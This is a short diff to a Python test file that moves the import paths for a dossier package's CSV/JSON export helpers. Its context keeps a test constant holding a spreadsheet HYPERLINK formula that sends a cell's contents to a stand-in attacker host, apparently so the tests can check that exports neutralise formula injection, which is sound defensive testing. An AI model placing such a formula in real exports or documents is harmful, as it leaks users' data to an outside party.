@@ -10,8 +10,8 @@ from pathlib import Path
 import pytest
 
 from conftest import apply_edits
-from dossier.exports import claims_csv, claims_json, csv_number, csv_text
-from dossier.pipeline import check_dossier
+from dossier.link.check import check_dossier
+from dossier.render.exports import claims_csv, claims_json, csv_number, csv_text
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")'
 
